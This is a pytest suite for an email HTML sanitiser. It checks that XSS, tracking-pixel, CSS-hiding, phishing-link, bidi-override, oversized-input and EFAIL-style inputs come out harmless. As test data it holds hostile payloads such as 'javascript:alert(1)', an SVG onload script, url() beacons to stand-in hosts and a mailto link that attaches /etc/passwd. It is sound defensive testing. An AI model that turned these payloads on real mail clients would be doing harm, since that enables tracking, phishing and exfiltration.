"""What is left of a letter's HTML, by the sanitiser alone: the frame's policy is tested without it, elsewhere."""

import base64
import re
import time
from contextlib import suppress
from html.parser import HTMLParser

import nh3
import pytest
from hypothesis import given
from hypothesis import strategies as st

from sceau.core.errors import Malformed
from sceau.envelopes import html, html_values
from sceau.envelopes.html import clean, sanitise
from sceau.envelopes.mime import Role, words
from sceau.envelopes.mime.parse import content, parse
from tests import html_attacks

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'


class Elements(HTMLParser):
    """Every element, attribute and word of a fragment."""

    def __init__(self, fragment: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.feed(fragment)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data


def is_harmless(fragment: str) -> bool:
    """By the tree, not by words: a letter may well speak of onerror."""
    for tag, attributes in Elements(fragment).tags:
        names = set(attributes)
        assert tag in html._TAGS, tag
        assert not {name for name in names if name.startswith("on")}, attributes
        assert not names & {"id", "name", "srcset", "background", "formaction", "srcdoc", "ping", "action"}, attributes
        assert re.fullmatch(r"(https?://[a-z0-9_.-]+(:\d+)?([/?#].*)?|mailto:[^?\s]+)?", attributes.get("href", ""))
        assert re.fullmatch(r"(data:image/(png|jpeg|gif|webp);base64,[\w+/=]+)?", attributes.get("src", ""))
        assert attributes.get("class", "remote") in html.CLASSES
        assert not re.search(r"url|@|\\|expression|position|image|var\(|(?<![\w.])-\d", attributes.get("style", ""))
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer"
            assert attributes["target"] == "_blank"
    return True


@pytest.mark.attack(17)
@pytest.mark.attack(18)
def test_nothing_of_an_attack_on_mail_is_left() -> None:
    for attack in html_attacks.on_mail():
        left = sanitise(attack.html)
        assert is_harmless(left), attack.id
        assert [word for word in attack.must_not_contain if word in left] == [], attack.id


@pytest.mark.attack(17)
def test_nothing_of_three_thousand_attacks_is_left_even_when_read_twice() -> None:
    attacks = html_attacks.everything()
    assert len(attacks) > 3_000
    for attack in attacks:
        left = sanitise(attack.html)
        assert is_harmless(left), attack.id
        assert is_harmless(sanitise(left)), attack.id
        assert is_harmless(nh3.clean(left, tags=html._TAGS, attributes=html._ATTRIBUTES, link_rel=None) and left)


@given(st.text(alphabet=st.sampled_from(list("<>/\"'= abimgstylesvgmathonerrorhref:;&#x!-`\\\t\0")), max_size=200))
def test_whatever_is_typed_comes_out_harmless(typed: str) -> None:
    assert is_harmless(sanitise(typed))


@pytest.mark.attack(17)
@pytest.mark.parametrize(
    "hostile",
    [
        "<div>" * html.TAGS_LIMIT + "fin",
        "<b><i><u>" * (html.TAGS_LIMIT // 3),
        "<table><tr><td>" * (html.TAGS_LIMIT // 3) + "fin",
        "&lt;" * 400_000,
        '<p style="' + "color:red;" * 100_000 + '">x</p>',
        "<a href=" + "x" * 1_000_000 + ">x</a>",
        "<!--" * 300_000,
        "<p " + "a=1 " * 300_000 + ">x</p>",
    ],
)
def test_a_hostile_size_costs_little_and_nests_little(hostile: str) -> None:
    before = time.process_time()
    left = sanitise(hostile)
    assert time.process_time() - before < 5
    depth = deepest = 0
    for tag in re.findall(r"<(/?)(?!br|hr|img|wbr|col)\w+", left):
        depth += -1 if tag else 1
        deepest = max(deepest, depth)
    assert deepest <= 200


@pytest.mark.parametrize("hostile", ["x" * (html.LIMIT + 1), "<b>" * (html.TAGS_LIMIT + 1)])
def test_a_letter_beyond_all_measure_is_refused(hostile: str) -> None:
    with pytest.raises(Malformed):
        sanitise(hostile)


class TestPictures:
    def test_one_of_the_letter_stands_in_it_by_what_its_octets_are(self) -> None:
        brought = {"logo@letter": PNG}
        left = clean('<img src="cid:logo@letter" alt="Logo" width="40">', inline=brought.get)
        ((tag, attributes),) = Elements(left.html).tags
        assert (tag, attributes["alt"], attributes["width"]) == ("img", "Logo", "40")
        assert base64.b64decode(attributes["src"].removeprefix("data:image/png;base64,")) == PNG
        assert left.blocked == 0

    @pytest.mark.attack(17)
    def test_one_that_is_no_picture_is_missing_whatever_it_is_called(self) -> None:
        for octets in (SVG, b"<html>", b"GIF", b"%PDF-1.4", None):
            left = clean('<img src="cid:x">', inline={"x": octets}.get)
            assert left.html == '<span class="missing"></span>'

    def test_one_inside_the_html_is_taken_for_what_it_is(self) -> None:
        said = base64.b64encode(PNG).decode()
        assert "data:image/png;base64," in sanitise(f'<img src="data:image/jpeg;base64,{said}">')
        for wrong in (f"data:image/svg+xml;base64,{base64.b64encode(SVG).decode()}", "data:text/html,x", "data:,"):
            assert sanitise(f'<img src="{wrong}">') == '<span class="missing"></span>'

    def test_too_many_octets_of_them_are_not_shown(self, monkeypatch: pytest.MonkeyPatch) -> None:
        big = PNG + bytes(html_values.PICTURE_LIMIT)
        assert "missing" in sanitise('<img src="cid:x">', inline=lambda _: big)
        most = PNG + bytes(html_values.PICTURE_LIMIT - len(PNG))
        left = sanitise('<img src="cid:x">' * 5, inline=lambda _: most)
        assert left.count("<img") == 2
        assert left.count("missing") == 3

    @pytest.mark.attack(18)
    def test_one_elsewhere_leaves_its_words_and_is_counted(self) -> None:
        left = clean(
            '<img src="https://tracker.example/a.png" alt="Plan d’accès"><img src="HTTP://x.example/y" alt="">'
        )
        assert left.html == '<span class="remote">Plan d’accès</span><span class="remote"></span>'
        assert left.blocked == 2

    @pytest.mark.attack(18)
    def test_a_beacon_leaves_nothing(self) -> None:
        left = clean('<p>Bonjour</p><img src="https://tracker.example/p.gif" width="1" height="1">')
        assert (left.html, left.blocked) == ("<p>Bonjour</p>", 1)


class TestLinks:
    @pytest.mark.parametrize(
        ("typed", "leads", "told"),
        [
            ("https://hopital.example/rdv", "https://hopital.example/rdv", "target"),
            ("https://BANQUE.example@voleur.example/x", "https://voleur.example/x", "target"),
            ("https://banque.example\\@voleur.example/", "https://banque.example", None),
            ("ht\ntps://voleur.example", "https://voleur.example", "target"),
            ("https://mѕsante.fr/", "https://xn--msante-ivf.fr/", "target"),
            ("mailto:victime@exemple.fr?attach=/etc/passwd&body=x", "mailto:victime@exemple.fr", "target"),
            ("mailto:a@b.fr%0d%0aBcc:x@y.fr", "", None),
            ("javascript:alert(1)", "", None),
            ("data:text/html,x", "", None),
            ("file://serveur/partage", "", None),
            ("//voleur.example/", "", None),
            ("/compte", "", None),
            ("#ancre", "", None),
            ("https://%65vil.example/", "", None),
            ("https://[::1]/", "", None),
            ("ftp://exemple.fr", "", None),
        ],
    )
    def test_each_leads_where_it_says_or_nowhere(self, typed: str, leads: str, told: str | None) -> None:
        link, *after = Elements(sanitise(f'<a href="{typed}">ici</a>')).tags
        if leads == "https://banque.example":  # a browser reads `\` as `/`: either nothing, or the true host
            assert link[1].get("href", leads).startswith(leads)
            return
        assert link[1].get("href", "") == leads
        assert [attributes["class"] for _, attributes in after] == ([told] if told else [])

    @pytest.mark.parametrize(
        ("words", "told"),
        [
            ("https://hopital.example/rdv/2", "plain"),
            ("www.hopital.example", "plain"),
            ("hopital.example", "plain"),
            ("https://wallet.esw.esante.gouv.fr", "odd"),
            ("hopital.example.voleur.example", "odd"),
            ("Prendre rendez-vous", "target"),
            ("", "target"),
        ],
    )
    def test_words_that_name_another_place_are_contradicted(self, words: str, told: str) -> None:
        left = sanitise(f'<a href="https://www.hopital.example/rdv"><b>{words}</b></a>')
        spans = [attributes["class"] for tag, attributes in Elements(left).tags if tag == "span"]
        assert spans == ([] if told == "plain" else [told])

    def test_a_telephone_number_is_shown_and_not_dialled(self) -> None:
        left = Elements(sanitise('<a href="tel:0899000000">Rappelez le secrétariat</a>'))
        assert "0899000000" in left.words
        assert all("href" not in attributes for _, attributes in left.tags)

    @pytest.mark.attack(14)
    def test_no_text_reads_in_another_order_than_it_is(self) -> None:
        for override in ("\u202e", "&#x202e;", "&#8238;", "\u2066"):
            left = sanitise(
                f'<p title="a{override}b">facture{override}gpj.exe</p><img src="http://x.y/" alt="{override}z">'
            )
            assert not re.search("[\u202a-\u202e\u2066-\u2069]", left)


class TestStyles:
    @pytest.mark.parametrize(
        "kept",
        [
            "color:#1f3864",
            "font-family:calibri , sans-serif",
            "font-size:11pt",
            "margin:0 0 12px 24px",
            "padding:4px",
            "border:1px solid #ccc",
            "border-collapse:collapse",
            "background-color:rgb(240, 240, 240)",
            "text-align:center",
            "width:600px",
            "line-height:1.4",
            "font-weight:bold",
            "text-decoration:underline",
        ],
    )
    def test_an_ordinary_one_stays(self, kept: str) -> None:
        ((_, attributes),) = Elements(sanitise(f'<p style="{kept}">x</p>')).tags
        assert attributes["style"].replace(" ", "") == kept.replace(" ", "")

    @pytest.mark.attack(16)
    @pytest.mark.parametrize(
        "gone",
        [
            "position:fixed;top:0;left:0",
            "position:absolute",
            "position:sticky",
            "z-index:99999",
            "margin-top:-2000px",
            "margin:0 0 0 -40em",
            "text-indent:-9999px",
            "text-indent:5000px",
            "background:url(https://t.example/x.png)",
            "background:\\75 rl(https://t.example/x)",
            "background-image:image-set('https://t.example/a' 1x)",
            "list-style:url(https://t.example/x)",
            "width:expression(alert(1))",
            "width:calc(100% + 5000px)",
            "width:99999px",
            "color:var(--wax)",
            "transform:translate(-500px)",
            "transform:scale(40)",
            "animation:x 1s",
            "filter:invert(1)",
            "opacity:0",
            "visibility:hidden",
            "display:none",
            "display:contents",
            "overflow:hidden",
            "max-height:0",
            "font-size:0",
            "font-size:1px",
            "font-size:4000px",
            "line-height:0",
            "clip-path:inset(100%)",
            "content:'Sceau intact'",
            "behavior:url(x.htc)",
            "-moz-binding:url(x)",
            "mso-hide:all",
            "cursor:none",
            "pointer-events:none",
            "float:expression(1)",
            "font:0/0 a",
            "unicode-bidi:bidi-override",
        ],
    )
    def test_one_that_covers_hides_or_fetches_goes(self, gone: str) -> None:
        left = sanitise(f'<div style="{gone}">Ce qui est écrit</div>')
        assert left == "<div>Ce qui est écrit</div>"

    def test_a_background_keeps_its_colour_without_its_picture(self) -> None:
        left = sanitise('<td style="background:#eef url(https://t.example/x.png) no-repeat">x</td>')
        assert sanitise(f"<table>{left}</table>") == "<table></table>x" or "t.example" not in left
        ((_, attributes),) = Elements(sanitise('<p style="background:#eef url(https://t.example/x.png)">x</p>')).tags
        assert attributes["style"] == "background-color:#eef"

    def test_white_paper_is_kept_for_a_letter_that_chose_its_colours(self) -> None:
        assert clean('<p style="color:#000">x</p>').coloured
        assert clean('<table bgcolor="#ffffff"><tr><td>x</td></tr></table>').coloured
        assert clean('<font color="red">x</font>').coloured
        assert not clean('<p style="font-size:11pt"><b>x</b></p>').coloured


def test_what_was_inside_a_form_or_hidden_stays_as_words() -> None:
    """Nothing that is in a letter is hidden from its reader, and nothing asks him for anything."""
    left = sanitise('<form action="https://x.example"><p>Mot de passe</p><input name="p"><button>OK</button></form>')
    assert left == "<p>Mot de passe</p>OK"
    assert sanitise('<div style="display:none">pli secret</div>') == "<div>pli secret</div>"


def test_a_usual_letter_looks_as_it_was_written() -> None:
    written = (
        '<table width="600" cellpadding="4" style="border-collapse:collapse"><tbody><tr>'
        '<td align="right" bgcolor="#eeeeee" colspan="2">Hb</td><td><b>13,2</b> g/dl</td></tr></tbody></table>'
        "<ul><li>un</li><li>deux</li></ul><blockquote><p>cité</p></blockquote><hr>"
    )
    assert Elements(sanitise(written)).tags == Elements(written).tags
    assert Elements(sanitise(written)).words == Elements(written).words


def test_every_letter_that_we_have_keeps_its_words() -> None:
    """Real mails, newsletters and spam among them: all that they say is still there, and nothing of what they do."""
    cleaned = 0
    for path in (each for each in sorted(html_attacks.folder("mime").rglob("*")) if each.is_file()):
        raw = path.read_bytes()
        with suppress(Malformed):
            for part in parse(raw).parts:
                if part.role is Role.HTML:
                    written = words.text(content(raw, part), part.charset)
                    left = sanitise(written)
                    assert is_harmless(left), path.name
                    said = nh3.clean(written, tags=set(), clean_content_tags=html._EMPTIED)
                    assert _letters(said) in _letters(nh3.clean(_SPAN.sub("", left), tags=set())), path.name
                    cleaned += 1
    assert cleaned > 50


_SPAN = re.compile(r' ?<span class="\w+">[^<]*</span>')  # what we add: where links lead, what pictures were


def _letters(text: str) -> str:
    return "".join(filter(str.isalnum, text))


@pytest.mark.attack(15)
def test_an_open_attribute_swallows_nothing_that_comes_after() -> None:
    """EFAIL's direct way: each part is cleaned alone, so its end is the end."""
    left = sanitise('<p>Bonjour</p><img src="https://voleur.example/?') + sanitise("<p>SECRET</p>")
    assert "voleur" not in left
    assert left.endswith("<p>SECRET</p>")
